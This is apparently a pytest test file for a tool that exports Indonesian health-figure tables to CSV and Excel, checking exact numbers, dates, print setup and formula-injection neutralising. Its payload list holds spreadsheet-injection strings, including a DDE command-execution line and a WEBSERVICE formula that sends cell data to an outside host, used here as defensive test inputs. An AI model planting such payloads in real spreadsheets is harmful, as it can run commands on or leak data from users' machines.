"""The table to take away holds the figure's numbers exactly, and no cell of it is alive."""

import csv
from dataclasses import replace
from datetime import date, datetime
from io import BytesIO, StringIO
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pantau import text
from pantau.draw import sheet
from pantau.figures import WRITE, Figure
from tests.draw import golden

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://contoh.id","klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+62 812",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r\n=1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "|calc",
    '=WEBSERVICE("http://contoh.id/?"&A1)',
]


def read_csv(figure: Figure) -> list[list[str]]:
    lines = sheet.csv(figure).decode("utf-8-sig").split("\r\n")
    table = "\r\n".join(line for line in lines if not line.startswith("#"))
    return [row for row in csv.reader(StringIO(table, newline=""), delimiter=";") if row]


def read_xlsx(figure: Figure, name: str = "Data") -> list[list[Any]]:
    book = openpyxl.load_workbook(BytesIO(sheet.xlsx(figure)))
    return [list(row) for row in book[name].iter_rows(values_only=True)]


def typed(cell: str, kind: str) -> object:
    """A cell of the CSV as the value it stands for."""
    if cell == "":
        return None
    if kind in ("number", "decimal", "percent"):
        return float(cell.replace(",", "."))
    return date.fromisoformat(cell) if kind in ("day", "month") else cell.removeprefix("'")


@pytest.mark.parametrize("name", golden.MAKERS)
def test_csv_and_xlsx_hold_the_numbers_a_person_reads(name: str) -> None:
    """csv = xlsx = table = what `written()` says, cell by cell."""
    figure = golden.MAKERS[name]()
    head, *rows = read_csv(figure)
    book_head, *book_rows = read_xlsx(figure)
    written = figure.written()
    assert head == book_head == list(written.columns) == list(figure.table().columns)
    assert len(rows) == len(book_rows) == len(written) == len(figure.frame)
    for place, column in enumerate(figure.columns):
        values = [typed(row[place], column.kind) for row in rows]
        assert [WRITE[column.kind](value) for value in values] == list(written[column.title])
        for value, cell, raw in zip(values, [row[place] for row in book_rows], figure.frame[column.name], strict=True):
            if isinstance(value, date):
                assert cell == datetime.combine(value, datetime.min.time())
            elif isinstance(value, str):
                assert cell.removeprefix("'") == value
            else:
                # A workbook keeps the fifteen digits Excel calculates with.
                assert cell == (None if value is None else pytest.approx(value, rel=1e-15))
                assert value is None or value == raw, "exact, not rounded"


def test_pandas_reads_the_csv_as_documented() -> None:
    figure = golden.dots()
    back = pd.read_csv(BytesIO(sheet.csv(figure)), sep=";", decimal=",", comment="#")
    assert back["Cakupan (%)"].tolist()[:4] == figure.frame["cakupan_persen"].tolist()[:4]
    assert back["Sasaran (orang)"].isna().tolist() == [False, False, False, False, True]


def test_the_csv_says_what_it_is_before_the_heading() -> None:
    figure = golden.dots()
    raw = sheet.csv(figure)
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert raw.startswith(b"\xef\xbb\xbf# ")
    assert lines[0] == f"# {figure.title}"
    assert lines[1] == f"# {figure.context.sentence}"
    assert lines[2] == f"# {figure.footer()}"
    assert "CONTOH" in lines[2]
    assert lines[4].startswith('"Kode desa";"Desa";')


def test_a_line_end_in_a_title_opens_no_row() -> None:
    figure = replace(golden.ranked(), title="Judul\r\n=1+1\u2028=2")
    lines = sheet.csv(figure).decode("utf-8-sig").split("\r\n")
    assert lines[0] == "# Judul =1+1 =2"


def test_missing_is_empty_and_nil_is_zero() -> None:
    figure = golden.villages()
    place = [column.name for column in figure.columns].index("kejadian")
    for rows, empty in ((read_csv(figure)[1:], ""), (read_xlsx(figure)[1:], None)):
        cells = [row[place] for row in rows]
        assert cells.count(empty) == figure.frame["kejadian"].isna().sum() > 0
        assert [str(cell) for cell in cells].count("0") == (figure.frame["kejadian"] == 0).sum() > 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str) -> None:
    assert sheet.safe_text(payload) == f"'{payload}"
    figure = golden.ranked()
    names = [payload, *figure.frame["nama_kecamatan"].tolist()[1:]]
    hit = replace(figure, frame=figure.frame.assign(nama_kecamatan=names), title=payload, reading=payload)
    assert read_csv(hit)[1][1] == f"'{payload}"
    book = openpyxl.load_workbook(BytesIO(sheet.xlsx(hit)))
    for page in book.worksheets:
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                assert cell.data_type != "s" or sheet.safe_text(str(cell.value)) == cell.value
    assert [row[2] for row in read_xlsx(hit)[1:]] == [10, 6, 6, 5, 5, 4, 2, 0], "numbers stay numbers"


@given(st.text())
def test_harmless_text_is_untouched_and_neutralising_twice_changes_nothing(words: str) -> None:
    once = sheet.safe_text(words)
    assert once in (words, f"'{words}")
    assert sheet.safe_text(once) == once


@pytest.mark.parametrize(
    "words", ["Halong", "63.11.01.2001", "6311 101 2025 12 27 1", "3/11", "Ju'uh", "a=b", "−12", ""]
)
def test_plain_names_stay(words: str) -> None:
    assert sheet.safe_text(words) == words


def test_negative_numbers_are_numbers() -> None:
    figure = golden.ranked()
    minus = replace(figure, frame=figure.frame.assign(kejadian=[-5.25, *[1] * 7]))
    assert read_csv(minus)[1][2] == "-5,25"
    assert read_xlsx(minus)[1][2] == -5.25


def test_the_workbook_prints_well_and_explains_itself() -> None:
    figure = golden.dots()
    book = openpyxl.load_workbook(BytesIO(sheet.xlsx(figure)))
    data = book["Data"]
    assert book.sheetnames == ["Data", "Tentang"]
    assert data.freeze_panes == "A2"
    assert data.auto_filter.ref == "A1:K6"
    assert data.page_setup.orientation == "landscape"
    assert str(data.page_setup.paperSize) == "9"
    assert data.sheet_properties.pageSetUpPr.fitToPage
    assert data.page_setup.fitToHeight == 0
    assert data.print_title_rows == "$1:$1"
    assert "CONTOH" in str(data.oddHeader.right.text)
    facts = {row[0]: row[1] for row in read_xlsx(figure, "Tentang")}
    assert facts["Judul"] == figure.title
    assert facts["Filter"] == figure.context.sentence
    assert facts["Bacaan"] == figure.reading
    assert facts["Sumber"] == figure.context.source
    assert facts["Satuan"] == figure.unit
    assert facts["Data s.d."] == "12 Nov 2025"
    assert facts["CONTOH"] == "register penerima"
    assert facts["Dicetak"].endswith("WITA")
    assert facts["Petunjuk"] == "Sel kosong = belum dilaporkan; 0 = nihil."
    assert "CONTOH" not in {row[0] for row in read_xlsx(golden.ranked(), "Tentang")}


def test_dates_and_months_are_written_the_indonesian_way() -> None:
    days = openpyxl.load_workbook(BytesIO(sheet.xlsx(golden.matrix())))["Data"]
    place = [cell.value for cell in days[1]].index("Tanggal unggah")
    assert days[2][place].number_format == "dd/mm/yyyy"
    assert days[2][place].value == datetime(2025, 4, 1)  # noqa: DTZ001
    months = openpyxl.load_workbook(BytesIO(sheet.xlsx(golden.months())))["Data"]
    assert months["A2"].number_format == "[$-421]mmm yyyy"


def test_an_empty_figure_still_gives_its_heading_and_context() -> None:
    figure = golden.ranked()
    empty = replace(figure, frame=figure.frame.iloc[:0])
    assert read_csv(empty) == [[column.title for column in figure.columns]]
    assert read_xlsx(empty)[0] == [column.title for column in figure.columns]


def test_a_long_sentence_does_not_break_the_print_header() -> None:
    figure = golden.ranked()
    figure = replace(figure, title="T & J " * 80, context=replace(figure.context, sentence="Kec. A & B · " * 60))
    book = openpyxl.load_workbook(BytesIO(sheet.xlsx(figure)))
    assert len(str(book["Data"].oddFooter.left.text)) <= 255
    assert read_xlsx(figure, "Tentang")[0][1] == figure.title


def test_everything_printed_is_indonesian() -> None:
    assert text.UNREPORTED in sheet.csv(golden.ranked()).decode("utf-8-sig")
